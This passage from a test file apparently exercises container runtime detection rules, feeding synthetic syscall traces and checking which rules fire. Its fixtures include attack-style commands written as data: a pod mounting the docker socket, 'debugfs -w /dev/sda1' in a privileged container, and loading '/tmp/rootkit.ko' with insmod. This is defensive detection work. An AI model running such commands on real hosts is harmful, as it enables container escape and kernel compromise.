      `container priv2 name=k8s_debug_dbg2 image=docker.io/library/busybox:1.36 privileged=true labels=io.kubernetes.pod.namespace=default,io.kubernetes.pod.name=dbg2
       proc runc pid=710 parent=300 exe=/usr/bin/runc comm=runc:[2:INIT] container=priv2
       710 execve vpid=1 /bin/sleep 3600`,
      ['Launch Privileged Container'],
    );
    expect(a.priority).toBe('Informational');
    expect(a.output_fields).toMatchObject({ 'proc.cmdline': 'sleep 3600', 'container.privileged': true, 'k8s.pod.name': 'dbg2' });
    await expectQuiet(`
      container priv3 name=k8s_debug_dbg3 image=docker.io/library/busybox:1.36 privileged=true
      container plain1 name=k8s_app_a image=docker.io/library/busybox:1.36
      container cni1 name=k8s_calico image=docker.io/calico/node:3.27 privileged=true
      proc sleep pid=720 parent=300 exe=/bin/sleep container=priv3
      proc runc pid=730 parent=300 exe=/usr/bin/runc comm=runc:[2:INIT] container=plain1
      proc runc pid=740 parent=300 exe=/usr/bin/runc comm=runc:[2:INIT] container=cni1
      720 spawn /bin/ls /
      730 execve vpid=1 /bin/sleep 3600
      740 execve vpid=1 /bin/calico-node
    `);
  });

  it('Launch Sensitive Mount Container: a container mounting the docker socket starts; an ordinary volume does not fire', async () => {
    const a = await expectRules(
      `container sock1 name=k8s_ci_runner image=ghcr.io/acme/ci-runner:1 mounts=/var/run/docker.sock:/var/run/docker.sock
       proc runc pid=750 parent=300 exe=/usr/bin/runc comm=runc:[2:INIT] container=sock1
       750 execve vpid=1 /usr/bin/runner`,
      ['Launch Sensitive Mount Container'],
    );
    expect(a.output_fields).toMatchObject({ 'container.mounts': '/var/run/docker.sock:/var/run/docker.sock::true:rprivate', 'proc.name': 'runner' });
    await expectQuiet(`
      container vol1 name=k8s_db image=docker.io/library/postgres:16 mounts=/srv/pg:/var/lib/postgresql/data
      proc runc pid=760 parent=300 exe=/usr/bin/runc comm=runc:[2:INIT] container=vol1
      760 execve vpid=1 /usr/bin/postgres
    `);
  });

  it('Debugfs Launched in Privileged Container: debugfs in a privileged pod; in an unprivileged one it does not fire', async () => {
    const a = await expectRules(
      `container priv4 name=k8s_debug_dbg4 image=docker.io/library/debian:12 privileged=true
       proc bash pid=770 parent=300 exe=/bin/bash container=priv4
       770 spawn /sbin/debugfs -w /dev/sda1`,
      ['Debugfs Launched in Privileged Container'],
    );
    expect(a.output_fields).toMatchObject({ 'proc.cmdline': 'debugfs -w /dev/sda1', 'container.name': 'k8s_debug_dbg4' });
    await expectQuiet(`
      310 spawn /sbin/debugfs -w /dev/sda1
    `);
  });

  it('Linux Kernel Module Injection Detected: a pod loads a module; modprobe on the host does not fire', async () => {
    const a = await expectRules(
      `310 spawn /sbin/insmod /tmp/rootkit.ko
       311 openat /tmp/rootkit.ko O_RDONLY
       311 raw finit_module fd=3 uargs= flags=0`,
      ['Linux Kernel Module Injection Detected'],
    );
    expect(a.output_fields).toMatchObject({ 'proc.cmdline': 'insmod /tmp/rootkit.ko', ...IN_WEB_POD });
    await expectQuiet(`
      250 spawn /sbin/modprobe br_netfilter
      251 raw finit_module fd=3 uargs= flags=0
    `);
  });
});

// Last in the file: vitest runs a file's tests in order, so every test above has run.
it('every default syscall rule was seen firing above', () => {
  const syscallRules = all.rules.filter((r) => r.source.name === 'syscall').map((r) => r.name);
  expect(syscallRules.filter((r) => !fired.has(r))).toEqual([]);
});
